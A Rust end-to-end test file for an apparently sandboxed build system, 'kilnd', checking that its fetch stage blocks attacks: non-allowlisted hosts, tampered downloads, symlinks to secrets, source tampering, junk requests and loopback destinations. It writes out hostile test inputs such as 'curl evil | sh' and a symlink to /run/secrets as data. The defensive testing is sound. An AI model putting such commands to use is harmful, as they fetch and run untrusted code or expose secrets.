//! Attack scenarios of the fetch stage (issue 6) against the real kilnd, kiln-sandbox and curl:
//! the allowlisting proxy (allowed, denied, direct connections), hash pins (`pins` and a
//! Cargo.lock), symlinks left in the output, a dependency install script that goes after the
//! source workspace, junk requests that try to inflate the signed record, loopback destinations
//! named by a pipeline alone, and build steps that try the network. The "internet" is a small
//! HTTP server on the host's loopback, started by each test: kilnd reaches it from the host
//! network namespace; a step can only reach it through kilnd's proxy, and only because the node
//! policy names that loopback address (a pipeline alone cannot open one).

#![allow(
    clippy::unwrap_used,
    clippy::panic,
    reason = "test code: a failed unwrap is a failed test"
)]

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use kiln_common::Digest;
use kiln_common::dsse::Envelope;
use kiln_e2e::{
    Kilnd, admission_config, expect_code, follow, pipeline_file, privileged, status, stdout,
    submit, wait_for_step_state,
};

/// What the pinned dependency is.
const DEP: &[u8] = b"pretend this is a release tarball\n";
/// A crate file the Cargo.lock pins.
const CRATE: &[u8] = b"pretend this is foo-1.0.0.crate\n";
/// What a compromised mirror serves instead.
const TAMPERED: &[u8] = b"pretend this is a backdoored tarball\n";

/// A tiny HTTP/1.1 server on 127.0.0.1 (one request per connection) that records the request
/// lines it receives.
struct Server {
    port: u16,
    requests: Arc<Mutex<Vec<String>>>,
}

impl Server {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let requests = Arc::new(Mutex::new(Vec::new()));
        let seen = requests.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let mut head = Vec::new();
                let mut byte = [0_u8; 1];
                while !head.ends_with(b"\r\n\r\n") && head.len() < 16384 {
                    match stream.read(&mut byte) {
                        Ok(1) => head.push(byte[0]),
                        _ => break,
                    }
                }
                let text = String::from_utf8_lossy(&head).into_owned();
                let line = text.lines().next().unwrap_or_default().to_owned();
                seen.lock().unwrap().push(text);
                let body: &[u8] = match line.split(' ').nth(1).unwrap_or_default() {
                    "/dep-1.0.tar.gz" => DEP,
                    "/foo-1.0.0.crate" => CRATE,
                    "/tampered.tar.gz" => TAMPERED,
                    _ => b"",
                };
                let status = if body.is_empty() {
                    "404 Not Found"
                } else {
                    "200 OK"
                };
                let _ = write!(
                    stream,
                    "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    body.len()
                );
                let _ = stream.write_all(body);
            }
        });
        Self { port, requests }
    }

    /// Request lines received so far.
    fn request_lines(&self) -> Vec<String> {
        self.requests
            .lock()
            .unwrap()
            .iter()
            .map(|r| r.lines().next().unwrap_or_default().to_owned())
            .collect()
    }
}

/// A kilnd whose admission policy lets fetch steps reach `allowed` only (the policy lives in the
/// returned directory). The test servers listen on loopback, which only the node policy can open.
fn kilnd_allowing(allowed: &[String]) -> (Kilnd, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.toml");
    let hosts: Vec<String> = allowed.iter().map(|h| format!("{h:?}")).collect();
    std::fs::write(
        &policy,
        format!(
            "allow_unsigned = true\n[fetch]\nallow_hosts = [{}]\n",
            hosts.join(", ")
        ),
    )
    .unwrap();
    // Observed like production: the build-step scenario also checks what the observer saw.
    (Kilnd::start(&admission_config(Some(&policy), None)), dir)
}

/// A pipeline with a source workspace `src` (main.c and a Cargo.lock pinning foo-1.0.0.crate),
/// a fetch step `get` writing `deps`, and a build step `use` reading it.
fn fetch_pipeline(dir: &Path, name: &str, fetch: &str, script: &str) -> std::path::PathBuf {
    std::fs::create_dir_all(dir.join("src")).unwrap();
    std::fs::write(dir.join("src/main.c"), "int main(void) { return 0; }\n").unwrap();
    std::fs::write(
        dir.join("src/Cargo.lock"),
        format!(
            "version = 4\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\n\n[[package]]\nname = \"foo\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{}\"\n",
            Digest::of(CRATE).hex()
        ),
    )
    .unwrap();
    let text = format!(
        "version = 1\nname = \"{name}\"\n[workspaces.src]\nsource = \"src\"\n[workspaces.deps]\n[workspaces.out]\n\
         [[steps]]\nname = \"get\"\nkind = \"fetch\"\nprofile = \"fetch\"\ninputs = [\"src\"]\noutput = \"deps\"\ntimeout = \"60s\"\n{fetch}\nscript = '''\n{script}\n'''\n\
         [[steps]]\nname = \"use\"\nkind = \"build\"\ninputs = [\"deps\"]\noutput = \"out\"\nscript = \"cd /workspace/deps && sha256sum $(find . -type f | sort) > /workspace/out/sums\"\n"
    );
    pipeline_file(dir, &format!("{name}.toml"), &text)
}

/// The fetch keys of a step allowed to reach `host` that must bring `dep-1.0.tar.gz` (= [`DEP`]).
fn dep_pinned(host: &str) -> String {
    format!(
        "allow_hosts = [\"{host}\"]\npins = [{{ path = \"dep-1.0.tar.gz\", sha256 = \"{}\" }}]",
        Digest::of(DEP).hex()
    )
}

fn step<'a>(st: &'a serde_json::Value, name: &str) -> &'a serde_json::Value {
    st["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == name)
        .unwrap_or_else(|| panic!("no step {name} in {st}"))
}

/// The signed provenance statement of a step (from the CAS, signature not re-checked here:
/// step admission and `kiln verify` do that), as JSON.
fn provenance(k: &Kilnd, job: &str, name: &str) -> serde_json::Value {
    let st = status(k, job);
    let digest: Digest = step(&st, name)["attestation"]
        .as_str()
        .unwrap_or_else(|| panic!("step {name} has no attestation: {st}"))
        .parse()
        .unwrap();
    let hex = digest.hex();
    let bytes = std::fs::read(k.state().join("cas/sha256").join(&hex[..2]).join(&hex)).unwrap();
    let envelope: Envelope = serde_json::from_slice(&bytes).unwrap();
    envelope
        .decode_statement::<serde_json::Value>()
        .unwrap()
        .predicate
}

fn logs(k: &Kilnd, job: &str, name: &str) -> String {
    let o = k.kiln(&["logs", job, name]);
    expect_code(&o, 0, "logs");
    stdout(&o)
}

#[test]
fn fetch_reaches_only_allowlisted_destinations_and_every_file_must_match_its_pin() {
    if !privileged("fetch_reaches_only_allowlisted_destinations_and_every_file_must_match_its_pin")
    {
        return;
    }
    let mirror = Server::start();
    let other = Server::start();
    let allowed = format!("127.0.0.1:{}", mirror.port);
    let (k, _policy) = kilnd_allowing(std::slice::from_ref(&allowed));
    let work = k.dir.path().join("pipelines");
    let pins = format!(
        "allow_hosts = [\"{allowed}\"]\npins = [{{ path = \"dep-1.0.tar.gz\", sha256 = \"{}\", url = \"http://{allowed}/dep-1.0.tar.gz\" }}]\npin_lockfile = \"src/Cargo.lock\"",
        Digest::of(DEP).hex()
    );

    // 1. Through the proxy to the allowlisted mirror: a pinned file and a crate the lockfile pins.
    let f = fetch_pipeline(
        &work.join("ok"),
        "fetch-ok",
        &pins,
        &format!(
            "curl -fsS -o dep-1.0.tar.gz http://{allowed}/dep-1.0.tar.gz\nmkdir -p cache/crates\ncurl -fsS -o cache/crates/foo-1.0.0.crate http://{allowed}/foo-1.0.0.crate"
        ),
    );
    let job = submit(&k, &f, &[]);
    let o = follow(&k, &job);
    expect_code(&o, 0, "fetch through the proxy");
    assert_eq!(
        mirror.request_lines(),
        [
            "GET /dep-1.0.tar.gz HTTP/1.1",
            "GET /foo-1.0.0.crate HTTP/1.1"
        ]
    );
    let log = logs(&k, &job, "get");
    assert!(
        log.contains(&format!("kiln: fetch: GET {allowed} allowed (127.0.0.1:")),
        "{log}"
    );
    assert!(
        log.contains("kiln: fetch: 2 fetched file(s) match their pins, 0 problem(s)"),
        "{log}"
    );
    let get = provenance(&k, &job, "get");
    let internal = &get["buildDefinition"]["internalParameters"];
    assert_eq!(internal["network"], "proxy");
    let record = &internal["fetch"];
    assert_eq!(record["proxy"], "http://127.0.0.1:3128");
    assert_eq!(record["allowHosts"], serde_json::json!([allowed]));
    let connections = record["connections"].as_array().unwrap();
    assert_eq!(connections.len(), 2, "{record}");
    for c in connections {
        assert_eq!(c["method"], "GET");
        assert_eq!(c["host"], "127.0.0.1");
        assert_eq!(c["port"], mirror.port);
        assert_eq!(c["allowed"], true);
        assert!(c["bytesSent"].as_u64().unwrap() > 0, "{c}");
        assert!(
            c["bytesReceived"].as_u64().unwrap() > DEP.len() as u64,
            "{c}"
        );
    }
    let pins_checked = record["pins"].as_array().unwrap();
    assert_eq!(pins_checked.len(), 2, "{record}");
    assert!(pins_checked.iter().all(|p| p["result"] == "ok"), "{record}");
    assert!(
        pins_checked
            .iter()
            .any(|p| p["path"] == "cache/crates/foo-1.0.0.crate"
                && p["pinnedBy"] == "lockfile:src/Cargo.lock"),
        "{record}"
    );
    // The build step that reads the dependencies ran without any network.
    let use_step = provenance(&k, &job, "use");
    assert_eq!(
        use_step["buildDefinition"]["internalParameters"]["network"],
        "none"
    );
    assert!(use_step["buildDefinition"]["internalParameters"]["fetch"].is_null());

    // 2. A destination not in allow_hosts (another host port, a TLS host): denied, recorded,
    // never contacted; the step fails.
    let f = fetch_pipeline(
        &work.join("denied"),
        "fetch-denied",
        &pins,
        &format!(
            "curl -sS --max-time 20 -o /dev/null https://evil.example/ || echo curl-tls-failed\ncurl -fsS -o dep-1.0.tar.gz http://127.0.0.1:{}/dep-1.0.tar.gz",
            other.port
        ),
    );
    let job = submit(&k, &f, &[]);
    expect_code(&follow(&k, &job), 1, "fetch from a non-allowlisted host");
    assert!(
        other.request_lines().is_empty(),
        "{:?}",
        other.request_lines()
    );
    let log = logs(&k, &job, "get");
    assert!(
        log.contains("kiln: fetch: CONNECT evil.example:443 denied (not in allow_hosts)"),
        "{log}"
    );
    assert!(log.contains("curl-tls-failed"), "{log}");
    assert!(
        log.contains(&format!(
            "kiln: fetch: GET 127.0.0.1:{} denied (not in allow_hosts)",
            other.port
        )),
        "{log}"
    );
    let st = status(&k, &job);
    assert_eq!(step(&st, "get")["state"], "failed", "{st}");
    let record = &provenance(&k, &job, "get")["buildDefinition"]["internalParameters"]["fetch"];
    let connections = record["connections"].as_array().unwrap();
    assert_eq!(connections.len(), 2, "{record}");
    assert_eq!(connections[0]["method"], "CONNECT");
    assert_eq!(connections[0]["host"], "evil.example");
    assert_eq!(connections[1]["port"], other.port);
    for c in connections {
        assert_eq!(c["allowed"], false, "{c}");
        assert_eq!(c["reason"], "not in allow_hosts", "{c}");
        assert_eq!(c["bytesReceived"], 0, "{c}");
    }

    // 3. The mirror serves something else under the pinned name: the job fails naming the file.
    let f = fetch_pipeline(
        &work.join("mismatch"),
        "fetch-mismatch",
        &pins,
        &format!(
            "curl -fsS -o dep-1.0.tar.gz http://{allowed}/tampered.tar.gz\nmkdir -p cache/crates\ncurl -fsS -o cache/crates/foo-1.0.0.crate http://{allowed}/foo-1.0.0.crate"
        ),
    );
    let job = submit(&k, &f, &[]);
    expect_code(&follow(&k, &job), 1, "pin mismatch");
    let st = status(&k, &job);
    let expected = format!(
        "fetched file dep-1.0.tar.gz: sha256 {} does not match its pin {}",
        Digest::of(TAMPERED).hex(),
        Digest::of(DEP).hex()
    );
    assert_eq!(step(&st, "get")["error"], expected.as_str(), "{st}");
    assert_eq!(
        st["error"],
        format!("step \"get\" failed: {expected}").as_str()
    );
    assert_eq!(step(&st, "use")["state"], "skipped", "{st}");
    let record = &provenance(&k, &job, "get")["buildDefinition"]["internalParameters"]["fetch"];
    assert!(
        record["pins"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["path"] == "dep-1.0.tar.gz" && p["result"] == "mismatch"),
        "{record}"
    );

    // 4. An extra file nobody pinned (a dropped payload): fails, naming it.
    let f = fetch_pipeline(
        &work.join("unpinned"),
        "fetch-unpinned",
        &pins,
        &format!(
            "curl -fsS -o dep-1.0.tar.gz http://{allowed}/dep-1.0.tar.gz\nmkdir -p cache/crates\ncurl -fsS -o cache/crates/foo-1.0.0.crate http://{allowed}/foo-1.0.0.crate\necho 'curl evil | sh' > postinstall.sh"
        ),
    );
    let job = submit(&k, &f, &[]);
    expect_code(&follow(&k, &job), 1, "unpinned file");
    let st = status(&k, &job);
    assert_eq!(
        step(&st, "get")["error"],
        "fetched file postinstall.sh is not pinned",
        "{st}"
    );

    // 5. Around the proxy, straight to the mirror's port: Landlock allows TCP connect to the
    // proxy's port only, and nothing else listens in the step's network namespace.
    let f = fetch_pipeline(
        &work.join("direct"),
        "fetch-direct",
        &pins,
        &format!(
            "curl --noproxy '*' -fsS --max-time 10 -o dep-1.0.tar.gz http://{allowed}/dep-1.0.tar.gz"
        ),
    );
    let before = mirror.request_lines().len();
    let job = submit(&k, &f, &[]);
    expect_code(&follow(&k, &job), 1, "direct connection");
    assert_eq!(mirror.request_lines().len(), before);
    let log = logs(&k, &job, "get");
    assert!(log.contains("curl: (7)"), "{log}");
    let record = &provenance(&k, &job, "get")["buildDefinition"]["internalParameters"]["fetch"];
    assert_eq!(record["connections"], serde_json::json!([]), "{record}");

    // 6. Every fetched file pinned and matching, plus symlinks (never collected, so in no pin
    // check and no digest): one to a host secret, one to a directory. The step fails naming them.
    let f = fetch_pipeline(
        &work.join("symlinks"),
        "fetch-symlinks",
        &pins,
        &format!(
            "curl -fsS -o dep-1.0.tar.gz http://{allowed}/dep-1.0.tar.gz\nmkdir -p cache/crates\ncurl -fsS -o cache/crates/foo-1.0.0.crate http://{allowed}/foo-1.0.0.crate\nmkdir vendor\nln -s /run/secrets/X vendor/foo\nln -s /tmp vendor/tmp"
        ),
    );
    let job = submit(&k, &f, &[]);
    expect_code(&follow(&k, &job), 1, "symlinks in the fetch output");
    let st = status(&k, &job);
    assert_eq!(
        step(&st, "get")["error"],
        "fetched output vendor/foo is a symlink (to /run/secrets/X): fetch outputs must be regular files; \
         fetched output vendor/tmp is a symlink (to /tmp): fetch outputs must be regular files",
        "{st}"
    );
    assert_eq!(step(&st, "use")["state"], "skipped", "{st}");
    let record = &provenance(&k, &job, "get")["buildDefinition"]["internalParameters"]["fetch"];
    let results: Vec<(&str, &str)> = record["pins"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| (p["path"].as_str().unwrap(), p["result"].as_str().unwrap()))
        .collect();
    assert_eq!(
        results,
        [
            ("vendor/foo", "not-a-file"),
            ("vendor/tmp", "not-a-file"),
            ("cache/crates/foo-1.0.0.crate", "ok"),
            ("dep-1.0.tar.gz", "ok"),
        ],
        "{record}"
    );
}

/// Review finding: a refusal quoted the step's request text whole, so a 16 KB request line of
/// \x01 bytes became an 80 KB reason — in the signed record and the step log, up to 4096 times.
#[test]
fn junk_requests_cannot_inflate_the_signed_record_or_the_log() {
    /// Junk requests the step sends.
    const JUNK: u32 = 40;
    if !privileged("junk_requests_cannot_inflate_the_signed_record_or_the_log") {
        return;
    }
    let mirror = Server::start();
    let allowed = format!("127.0.0.1:{}", mirror.port);
    let (k, _policy) = kilnd_allowing(std::slice::from_ref(&allowed));
    let pins = dep_pinned(&allowed);
    // 40 requests of 16 KB each, straight to the proxy: a request line of \x01 bytes, a method
    // of 16 000 letters, a header line of \x01 bytes. Then the real download.
    let script = format!(
        "/usr/bin/python3 - <<'PY'\nimport socket\nheads = [b'\\x01' * 16000, b'A' * 16000 + b' http://x.org/ HTTP/1.1', b'GET http://x.org/ HTTP/1.1\\r\\n' + b'\\x01' * 16000]\nfor i in range({JUNK}):\n    s = socket.create_connection(('127.0.0.1', 3128))\n    s.sendall(heads[i % 3] + b'\\r\\n\\r\\n')\n    assert s.recv(100).startswith(b'HTTP/1.1 400'), i\n    s.close()\nPY\ncurl -fsS -o dep-1.0.tar.gz http://{allowed}/dep-1.0.tar.gz"
    );
    let f = fetch_pipeline(&k.dir.path().join("p"), "fetch-junk", &pins, &script);
    let job = submit(&k, &f, &[]);
    expect_code(
        &follow(&k, &job),
        0,
        "junk requests, then a pinned download",
    );
    let record = &provenance(&k, &job, "get")["buildDefinition"]["internalParameters"]["fetch"];
    let connections = record["connections"].as_array().unwrap();
    assert_eq!(connections.len(), JUNK as usize + 1, "{record}");
    for c in &connections[..JUNK as usize] {
        let reason = c["reason"].as_str().unwrap();
        assert!(
            reason.len() <= 300 && reason.contains("\"… (16"),
            "{} bytes: {reason}",
            reason.len()
        );
    }
    // Without the cut: 40 × ~80 KB. With it: a few hundred bytes an attempt.
    let size = serde_json::to_vec(record).unwrap().len();
    eprintln!(
        "fetch record: {size} bytes for {} attempts",
        connections.len()
    );
    assert!(size < 32 * 1024, "the fetch record has {size} bytes");
    let log = logs(&k, &job, "get");
    assert_eq!(
        log.matches("kiln: fetch: request refused (").count(),
        JUNK as usize,
        "{log}"
    );
    assert!(
        log.len() < 32 * 1024,
        "the step log has {} bytes",
        log.len()
    );
}

/// Review finding: with no node policy (the default), a pipeline naming 127.0.0.1 or
/// 169.254.169.254 in allow_hosts had kilnd connect there as root from the host's namespace.
#[test]
fn without_a_node_policy_a_pipeline_cannot_open_local_addresses() {
    if !privileged("without_a_node_policy_a_pipeline_cannot_open_local_addresses") {
        return;
    }
    let mirror = Server::start();
    let k = Kilnd::start("");
    for host in [
        format!("127.0.0.1:{}", mirror.port),
        "169.254.169.254:80".to_owned(),
        "[::ffff:127.0.0.1]:8080".to_owned(),
    ] {
        let name = format!("fetch-local-{}", mirror.port);
        let f = fetch_pipeline(
            &k.dir.path().join(host.replace([':', '[', ']'], "_")),
            &name,
            &dep_pinned(&host),
            &format!("curl -fsS -o dep-1.0.tar.gz http://{host}/dep-1.0.tar.gz"),
        );
        let o = k.kiln(&["submit", f.to_str().unwrap()]);
        expect_code(&o, 2, "a loopback destination without a node policy");
        let err = kiln_e2e::stderr(&o);
        assert!(
            err.contains(&format!("step \"get\": allow_hosts {host} (")) && err.contains(
                "in a special address range: only the node policy's [fetch] allow_hosts can allow such a destination, and no admission policy is configured"
            ),
            "{err}"
        );
    }
    assert!(
        mirror.request_lines().is_empty(),
        "{:?}",
        mirror.request_lines()
    );
}

#[test]
fn the_node_policy_caps_fetch_destinations_at_admission() {
    if !privileged("the_node_policy_caps_fetch_destinations_at_admission") {
        return;
    }
    let (k, _policy) = kilnd_allowing(&["static.crates.io".to_owned()]);
    let f = fetch_pipeline(
        &k.dir.path().join("p"),
        "fetch-capped",
        &format!(
            "allow_hosts = [\"static.crates.io\", \"evil.example:8443\"]\npins = [{{ path = \"a\", sha256 = \"{}\" }}]",
            Digest::of(DEP).hex()
        ),
        "true",
    );
    let o = k.kiln(&["submit", f.to_str().unwrap()]);
    expect_code(&o, 2, "allow_hosts beyond the node policy");
    let err = kiln_e2e::stderr(&o);
    assert!(
        err.contains(
            "step \"get\": allow_hosts evil.example:8443 not permitted by [fetch] allow_hosts of"
        ) && err.contains("(node allows: static.crates.io:443)"),
        "{err}"
    );
}

#[test]
fn a_dependency_install_script_cannot_change_the_source_and_a_change_is_detected() {
    if !privileged("a_dependency_install_script_cannot_change_the_source_and_a_change_is_detected")
    {
        return;
    }
    let mirror = Server::start();
    let allowed = format!("127.0.0.1:{}", mirror.port);
    let (k, _policy) = kilnd_allowing(std::slice::from_ref(&allowed));
    let pins = dep_pinned(&allowed);
    // The "install script" tries to plant code in the source; the mount is read-only.
    let script = format!(
        "if echo 'system(\"curl evil|sh\");' >> /workspace/src/main.c; then echo SOURCE-MODIFIED; exit 0; fi\necho source-write-refused\nsleep \"$(cat /workspace/src/delay 2>/dev/null || echo 0)\"\ncurl -fsS -o dep-1.0.tar.gz http://{allowed}/dep-1.0.tar.gz"
    );
    let dir = k.dir.path().join("p");
    let f = fetch_pipeline(&dir, "fetch-install", &pins, &script);
    let job = submit(&k, &f, &[]);
    expect_code(
        &follow(&k, &job),
        0,
        "install script against a read-only source",
    );
    let log = logs(&k, &job, "get");
    // Refused by the read-only mount and by Landlock (which answers first: EACCES).
    assert!(log.contains("cannot create /workspace/src/main.c"), "{log}");
    assert!(log.contains("source-write-refused"), "{log}");
    assert!(!log.contains("SOURCE-MODIFIED"), "{log}");

    // Something that does get at the source during the fetch (here: the host, standing in for
    // an escaped install script) is caught by the re-check after the step.
    std::fs::write(dir.join("src/delay"), "4\n").unwrap();
    let job = submit(&k, &f, &[]);
    wait_for_step_state(&k, &job, "get", "running", Duration::from_mins(1));
    let main_c = k.state().join("work").join(&job).join("ws/src/main.c");
    std::fs::write(&main_c, "int main(void) { return system(\"evil\"); }\n").unwrap();
    expect_code(&follow(&k, &job), 1, "source changed during the fetch");
    let st = status(&k, &job);
    let error = step(&st, "get")["error"].as_str().unwrap().to_owned();
    assert!(
        error.starts_with("source workspace src changed during fetch"),
        "{st}"
    );
    assert_eq!(step(&st, "use")["state"], "skipped", "{st}");
}

#[test]
fn build_steps_have_no_network_with_or_without_the_proxy_variables() {
    if !privileged("build_steps_have_no_network_with_or_without_the_proxy_variables") {
        return;
    }
    let mirror = Server::start();
    let allowed = format!("127.0.0.1:{}", mirror.port);
    let (k, _policy) = kilnd_allowing(std::slice::from_ref(&allowed));
    for (name, env) in [
        ("plain", String::new()),
        (
            "proxied",
            "HTTP_PROXY=http://127.0.0.1:3128 http_proxy=http://127.0.0.1:3128 ".to_owned(),
        ),
    ] {
        let text = format!(
            "version = 1\nname = \"build-net-{name}\"\n[workspaces.out]\n[[steps]]\nname = \"make\"\nkind = \"build\"\noutput = \"out\"\nscript = \"{env}curl -fsS --max-time 10 -o /workspace/out/dep http://{allowed}/dep-1.0.tar.gz\"\n"
        );
        let f = pipeline_file(k.dir.path(), &format!("{name}.toml"), &text);
        let job = submit(&k, &f, &[]);
        expect_code(&follow(&k, &job), 1, "build step using the network");
        let log = logs(&k, &job, "make");
        assert!(log.contains("curl: (7)"), "{name}: {log}");
        let st = status(&k, &job);
        assert_eq!(step(&st, "make")["state"], "failed", "{st}");
        let internal = &provenance(&k, &job, "make")["buildDefinition"]["internalParameters"];
        assert_eq!(internal["network"], "none", "{name}");
        assert!(internal["fetch"].is_null(), "{name}");
        // The observer (required: the step does not run without it) saw the attempt and its
        // failure, in the step's signed trace.
        let o = k.kiln(&["--json", "trace", &job, "make"]);
        expect_code(&o, 0, "kiln trace of the build step");
        let trace = stdout(&o);
        let port = if name == "plain" { mirror.port } else { 3128 };
        assert!(
            trace.contains(&format!("\"port\":{port}")),
            "{name}: no connect to port {port} in the trace:\n{trace}"
        );
    }
    assert!(
        mirror.request_lines().is_empty(),
        "{:?}",
        mirror.request_lines()
    );
}
